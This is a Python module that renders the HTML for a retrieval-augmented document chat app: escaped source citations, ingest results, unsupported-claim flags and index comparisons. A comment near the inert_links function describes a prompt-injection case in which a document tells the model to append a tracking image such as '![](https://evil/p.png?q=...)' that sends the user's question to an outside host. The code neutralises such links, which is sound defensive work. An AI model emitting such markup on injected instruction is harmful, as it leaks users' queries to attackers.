"""HTML and table rendering for the web UI: everything user- or document-supplied is escaped."""

from __future__ import annotations

import html
import re

from app.ui_text import note_text, text

CSS = """
#sources .source { border-left: 3px solid #7c8db5; padding: 4px 10px; margin: 6px 0; }
#sources .source.correction { border-left-color: #e0a100; }
#sources .where { font-weight: 600; }
#sources .left-out { color: #b00020; font-size: 0.85em; }
#sources .snippet { color: #555; font-size: 0.9em; white-space: pre-wrap; }
#ingest-results .failed { color: #b00020; }
#ingest-results .skipped { color: #8a6d00; }
#ingest-results .ok { color: #1b7f3b; }
.rt-table td, .chunk-table td { vertical-align: top; font-size: 0.9em; padding: 4px 6px; }
.rt-table tr.rt_in_prompt td:first-child { border-left: 4px solid #1b7f3b; }
.rt-table tr.rt_kept td:first-child { border-left: 4px solid #8a6d00; }
.rt-table tr.rt_dropped { color: #888; }
.chunk-table tr.disabled { color: #999; text-decoration: line-through; }
.chunk-table .off { color: #b00020; text-decoration: none; }
#preview-text .preview-body { white-space: pre-wrap; font-size: 0.92em; }
#preview-text mark { background: #ffd600; }
.cmp-table tr.worse td { color: #b00020; }
"""


def esc(value) -> str:  # noqa: ANN001
    return html.escape(str(value if value is not None else ""), quote=True)


def page_link(kb: str, src: dict) -> str:
    """The app's own URL of a cited PDF page with the passage highlighted (opens in a new tab)."""
    from urllib.parse import quote

    return (f"/api/kbs/{quote(kb, safe='')}/documents/{quote(src['doc_id'], safe='')}/pages/{int(src['page'])}.png"
            f"?highlight={quote(src.get('snippet', '')[:600], safe='')}")


def sources_html(sources: list[dict], request, refused: bool = False, kb: str | None = None,  # noqa: ANN001
                 links: bool = False) -> str:
    """`links`: a cited PDF page opens, highlighted, on click (off when the API needs a key the browser lacks)."""
    if not sources:
        return f"<div class='no-sources'>{esc(text(request, 'no_sources'))}</div>" if refused else ""
    rows = []
    for s in sources:
        correction = s.get("kind") == "correction"
        if correction:
            where = f"[{s['n']}] {text(request, 'user_correction')} — {s.get('section') or ''}"
        else:
            parts = [f"[{s['n']}] {s['filename']}"]
            if s.get("page"):
                parts.append(f"p. {s['page']}" if text(request, "page") == "page" else f"第 {s['page']} 页")
            if s.get("section"):
                parts.append(s["section"])
            where = " — ".join(parts)
        cls = "source correction" if correction else "source"
        if links and kb and not correction and s.get("page") and s.get("doc_id") and s["filename"].lower().endswith(".pdf"):
            where_html = f"<a href='{esc(page_link(kb, s))}' target='_blank' rel='noopener'>{esc(where)}</a>"
        else:
            where_html = esc(where)
        left_out = "".join(f"<div class='left-out'>⚠️ {esc(text(request, 'left_out', sentence=x[:200]))}</div>"
                           for x in s.get("left_out") or [])
        rows.append(f"<div class='{cls}' data-n='{esc(s['n'])}'><div class='where'>{where_html}</div>"
                    f"<div class='snippet'>{esc(s.get('evidence') or s.get('snippet', ''))}</div>{left_out}</div>")
    return f"<div class='sources-title'><b>{esc(text(request, 'sources'))}</b></div>" + "".join(rows)


def result_html(results, request) -> str:  # noqa: ANN001
    """The per-file outcome of an ingest: ingested / replaced / skipped / failed, with the reason."""
    label = {"ingested": "result_ingested", "replaced": "result_replaced", "skipped": "result_skipped",
             "failed": "result_failed"}
    items = []
    for r in results:
        cls = "ok" if r.status in ("ingested", "replaced") else r.status
        if r.status in ("ingested", "replaced"):
            detail = text(request, "pages_chunks", pages=r.pages, chunks=r.chunks) if r.pages else \
                text(request, "chunks_only", chunks=r.chunks)
        else:
            detail = r.reason or ""
        warn = "".join(f"<div class='warning'>⚠ {esc(note_text(request, w))}</div>" for w in r.warnings)
        items.append(f"<li class='{cls}' data-status='{esc(r.status)}'><b>{esc(r.name)}</b>: "
                     f"{esc(text(request, label.get(r.status, 'result_failed')))} — {esc(detail)}{warn}</li>")
    return "<ul>" + "".join(items) + "</ul>"


def chat_messages(messages, request) -> tuple[list[dict], list[str]]:  # noqa: ANN001
    """Stored messages as Chatbot messages, and their ids (for feedback on a row). An answer's flags
    (unsupported claims, model's own knowledge) come back with it: a reload never shows it as supported."""
    out, ids = [], []
    for m in messages:
        content = m.content
        if m.meta.get("error") and m.role == "assistant":
            content = f"⚠️ {m.meta['error']}"
        elif m.role == "assistant":
            content = inert_links(content)
            if flags := claim_flags(m.meta.get("unsupported_claims") or [], request):
                content += "\n\n" + "\n\n".join(flags)
        out.append({"role": m.role, "content": content})
        ids.append(m.id)
    return out, ids


# Model output that would make the browser fetch or open an address: an injected document can ask the model to
# append a tracking image that carries the question ("![](https://evil/p.png?q=...)") or a phishing link. The
# chat shows such markup as inert text, the address in a code span: an answer's sources are its [n] citations.
_HTML_MEDIA = re.compile(r"<\s*(?:img|image|a|iframe|video|audio|source|object|embed|link|svg)\b[^>]*>", re.I)
_MD_IMAGE = re.compile(r"!\[([^\]\n]*)\]\(([^)\n]*)\)")
_MD_REF_IMAGE = re.compile(r"!\[([^\]\n]*)\]\[[^\]\n]*\]")
_MD_LINK = re.compile(r"\[([^\]\n]*)\]\(([^)\n]*)\)")
_ADDRESS = re.compile(r"(?<![`\w])(?:(?:https?|ftp|file|data|javascript):|www\.)[^\s<>`\]\[()\"']+", re.I)


def _code(address: str) -> str:
    return f"`{address.strip().strip('<>').replace('`', '')}`"


def inert_links(markdown: str) -> str:
    """`markdown` with every image, link and address made plain text: nothing in the chat loads or opens it."""
    out = _HTML_MEDIA.sub(lambda m: _code(m.group(0)), markdown)
    out = _MD_IMAGE.sub(lambda m: f"[{m.group(1) or 'image'}: {_code(m.group(2))}]", out)
    out = _MD_REF_IMAGE.sub(lambda m: f"[{m.group(1) or 'image'}]", out)
    out = _MD_LINK.sub(lambda m: f"{m.group(1)} ({_code(m.group(2))})" if m.group(2).strip() else m.group(0), out)
    parts = re.split(r"(`[^`]*`)", out)  # addresses outside code spans (odd parts are the spans)
    return "".join(p if i % 2 else _ADDRESS.sub(lambda m: _code(m.group(0)), p) for i, p in enumerate(parts))


def last_answer_id(ids: list[str], messages: list[dict]) -> str:
    for mid, m in zip(reversed(ids), reversed(messages)):
        if m["role"] == "assistant":
            return mid
    return ""


def feedback_target(messages: list[dict], request) -> str:  # noqa: ANN001
    """The line under the feedback box saying which answer a rating or correction applies to."""
    for m in reversed(messages):
        if m["role"] == "assistant":
            snippet = " ".join(str(m["content"]).split())[:80]
            return text(request, "feedback_on", answer=snippet)
    return ""


def claim_flags(claims: list[dict], request) -> list[str]:  # noqa: ANN001
    """One line per answer sentence its cited block does not support (never shown as if it did), and one
    for an answer that cites nothing and probably comes from the model's memory."""
    return [text(request, "uncited_answer") if c.get("kind") == "uncited" else
            text(request, "unsupported_claim", cites="".join(f"[{n}]" for n in c["cites"]),
                 missing="、".join(c["missing"]), sentence=c["sentence"][:120]) for c in claims]


def comparison_html(cmp, request) -> str:  # noqa: ANN001 - rag.reindex.Comparison
    """The new index against the serving one, per question: where the expected passage ranks, top-5 overlap."""
    head = "".join(f"<th>{esc(text(request, k))}</th>" for k in
                   ("cmp_question", "cmp_kind", "cmp_expected", "cmp_before", "cmp_after", "cmp_overlap"))
    rows = []
    for c in cmp.cases:
        before = (c.rank_before or "–") if c.expected else ""
        after = (c.rank_after or "–") if c.expected else ""
        worse = c.expected and (c.rank_after or 99) > (c.rank_before or 99)
        rows.append(f"<tr class=\"{'worse' if worse else ''}\"><td>{esc(c.question)}</td>"
                    f"<td>{esc(text(request, 'cmp_kind_' + c.kind))}</td><td>{esc(c.expected or '')}</td>"
                    f"<td>{esc(before)}</td><td>{esc(after)}</td><td>{c.overlap:.0%}</td></tr>")
    summary = text(request, "cmp_summary", n=len(cmp.cases), found_before=cmp.found(False), found_after=cmp.found(True),
                   expected=len(cmp.with_expected), overlap=f"{cmp.mean_overlap:.0%}")
    return (f"<p>{esc(summary)}</p><table class=\"rt-table cmp-table\"><thead><tr>{head}</tr></thead>"
            f"<tbody>{''.join(rows)}</tbody></table>")
